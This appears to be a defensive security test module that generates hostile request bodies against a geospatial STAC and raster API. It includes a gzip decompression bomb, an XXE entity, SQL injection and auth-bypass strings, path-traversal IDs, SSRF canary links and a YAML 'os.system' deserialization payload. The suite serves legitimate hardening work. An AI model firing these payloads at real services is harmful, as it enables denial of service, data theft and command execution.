"""Hostile bodies: deep, huge, of another kind than they say, packed, and with conditions that are no conditions."""

import gzip
import json
import zlib
from collections.abc import Callable, Iterator
from typing import Any

from tests.security import payloads
from tests.security.wire import Attack

BOMB = gzip.compress(bytes(50_000_000), 9)
SEARCHES = ("/stac/search", "/stac/sample", "/raster/searches/register")
FEATURES = (
    "/raster/collections/{collection_id}/items/{item_id}/statistics",
    "/raster/collections/{collection_id}/items/{item_id}/feature.png",
    "/raster/collections/{collection_id}/aois/{aoi}/timeseries",
)
_JSON = {"Content-Type": "application/json"}
_XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "{canary}/xxe">]><a>&b;</a>'


def bodies(bait: Callable[[str], str], fill: Callable[..., str]) -> Iterator[Attack]:
    """Yield requests with a body; `bait` puts the canary's address into a text, `fill` what exists into a path."""
    for path in SEARCHES:
        yield from (Attack("body", path, "POST", _JSON, body) for body in _documents())
        yield from (Attack("body", path, "POST", _JSON, json.dumps(one).encode()) for one in _searches(bait))
        yield from (_of_another_kind(path, bait(_XXE)))
    for path in FEATURES:
        yield from (Attack("body", fill(path), "POST", _JSON, body) for body in _documents())
        yield from (Attack("body", fill(path), "POST", _JSON, json.dumps(one).encode()) for one in _features(bait))
    yield from _writes(bait, fill)


def _documents() -> Iterator[bytes]:
    """Yield what is hardly JSON."""
    yield from (
        b"",
        b" ",
        b"null",
        b"true",
        b"1",
        b'""',
        b"[]",
        b"[[[]]]",
        b"{",
        b"}",
        b"{}{}",
        b"\xff\xfe",
        b"\xef\xbb\xbf{}",
    )
    yield from (
        b"NaN",
        b"Infinity",
        b"-Infinity",
        b"1e999",
        b"9" * 10_000,
        b'"\\ud800"',
        b'{"a":"\\u0000"}',
        b"{'a':1}",
    )
    yield from (
        b"[" * payloads.DEEP,
        b'{"a":' * payloads.DEEP,
        b"[" * 500 + b"]" * 500,
        b'{"a":' * 500 + b"1" + b"}" * 500,
    )
    yield b'{"limit":1,"limit":' + b"9" * 400 + b"}"
    yield ("{" + ",".join(f'"k{number}":{number}' for number in range(30_000)) + "}").encode()
    yield b'{"ids":[' + b",".join(b'"a"' for _ in range(100_000)) + b"]}"
    yield b'{"a":"' + b"a" * 1_200_000 + b'"}'
    yield '{"collections":["\u0000"]}'.encode("utf-16")


def _searches(bait: Callable[[str], str]) -> Iterator[Any]:
    for text in payloads.SQL:
        yield {"ids": [text]}
        yield {"collections": [text]}
        yield {"sortby": [{"field": text, "direction": "asc"}]}
        yield {"filter-lang": "cql2-json", "filter": {"op": "=", "args": [{"property": text}, text]}}
        yield {"filter-lang": "cql2-json", "filter": {"op": text, "args": [{"property": "id"}, "a"]}}
        yield {"query": {text: {"eq": text}}}
    for text in payloads.SQL[::2]:
        yield {"fields": {"include": [text], "exclude": [text]}}
        yield {"datetime": text}
        yield {"q": [text]}
        yield {"conf": {text: text}, "token": text}
        yield {"metadata": {"name": text, "defaults": {"x": {"url": bait("{canary}/m")}}, "assets": [text]}}
    for value in (10**400, -1, 1e308, float("nan"), float("inf"), None, [], {}, "a", True, 2**63):
        yield {"limit": value}
        yield {"bbox": [value, value, value, value]}
        yield {"filter-lang": "cql2-json", "filter": {"op": "=", "args": [{"property": "eo:cloud_cover"}, value]}}
        yield {"filter-lang": "cql2-json", "filter": {"op": "and", "args": value}}
        yield {"filter": value}
    yield {"intersects": {"type": "Point", "coordinates": [float("nan"), 10**400]}}
    yield {"intersects": {"$ref": bait("{canary}/x")}, "filter": {"$ref": bait("{canary}/x")}}


def _features(bait: Callable[[str], str]) -> Iterator[Any]:
    geometries: tuple[Any, ...] = (
        None,
        [],
        "x",
        {"type": "Polygon"},
        {"type": "Polygon", "coordinates": None},
        {"type": "Point", "coordinates": []},
        {"type": "Polygon", "coordinates": [[]]},
        {"type": "Polygon", "coordinates": [[[0, 0]]]},
        {"type": bait("{canary}/x"), "coordinates": [0, 0]},
        {"type": "GeometryCollection", "geometries": [{"type": "GeometryCollection", "geometries": []}] * 500},
        {"type": "Polygon", "coordinates": [[[1e308, 1e308], [-1e308, 1e308], [0, -1e308], [1e308, 1e308]]]},
        {"type": "Polygon", "coordinates": [[[float("nan"), 0], [1, 1], [0, 1], [float("nan"), 0]]]},
        {"type": "MultiPolygon", "coordinates": [[[[0, 0], [1, 1], [0, 1], [0, 0]]]] * 5000},
        {"type": "Polygon", "coordinates": [["a", "b"]]},
        {"type": "LineString", "coordinates": [[0, 0]] * 9000},
    )
    for geometry in geometries:
        yield {"type": "Feature", "properties": {}, "geometry": geometry}
        yield {
            "type": "Feature",
            "properties": None,
            "geometry": geometry,
            "crs": {"type": "link", "properties": {"href": bait("{canary}/crs")}},
        }
        yield {"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {}, "geometry": geometry}]}
    yield {"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {}, "geometry": None}] * 5000}


def _of_another_kind(path: str, entity: str) -> Iterator[Attack]:
    """Yield bodies that are packed, of another form, or say so."""
    packed = (
        ("gzip", BOMB),
        ("deflate", zlib.compress(bytes(1_000_000))),
        ("br", b"\x00" * 100),
        ("zstd", b"(\xb5/\xfd" + b"\x00" * 100),
    )
    for encoding, body in packed:
        yield Attack("bomb", path, "POST", _JSON | {"Content-Encoding": encoding}, body)
    kinds = (
        "text/xml",
        "application/xml",
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/json; charset=utf-7",
        "application/json; charset=nonsense",
        "application/x-yaml",
        "application/octet-stream",
        "",
    )
    for kind in kinds:
        yield Attack("kind", path, "POST", {"Content-Type": kind}, entity.encode())
        yield Attack(
            "kind", path, "POST", {"Content-Type": kind}, b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n" * 200
        )
        yield Attack("kind", path, "POST", {"Content-Type": kind}, b"!!python/object/apply:os.system ['id']")


def _writes(bait: Callable[[str], str], fill: Callable[..., str]) -> Iterator[Attack]:
    """Yield what would put something into the catalog, where one has no token."""
    item = {
        "type": "Feature",
        "stac_version": "1.0.0",
        "id": "../../evil",
        "collection": "worldstrat-spot",
        "geometry": None,
        "links": [],
        "properties": {"datetime": "2020-01-01T00:00:00Z"},
        "assets": {"../x": {"href": bait("{canary}/a.tif"), "type": "image/tiff"}},
    }
    data = json.dumps(item).encode()
    collection = "/stac/collections/{collection_id}"
    for path in (
        "/stac/collections",
        collection,
        f"{collection}/items",
        f"{collection}/items/{{item_id}}",
        f"{collection}/bulk_items",
    ):
        for method in ("POST", "PUT", "PATCH", "DELETE"):
            for token in ("", "Bearer x", "Bearer " + "a" * 4000, "Basic YTpi"):
                yield Attack("write", fill(path), method, _JSON | ({"Authorization": token} if token else {}), data)
    store = fill("/raster/collections/{collection_id}/items/{item_id}/sr/cog")
    for token in ("", "Bearer", "Bearer x", "Bearer \xff", "Basic eDp5", "bearer null", "Bearer ' OR 1=1"):
        yield Attack("write", store, "POST", {"Authorization": token} if token else {}, b"{}")
        yield Attack(
            "write", f"{store}?model=../../x&href={bait('{canary}/m.onnx')}", "POST", {"Authorization": token}, data
        )
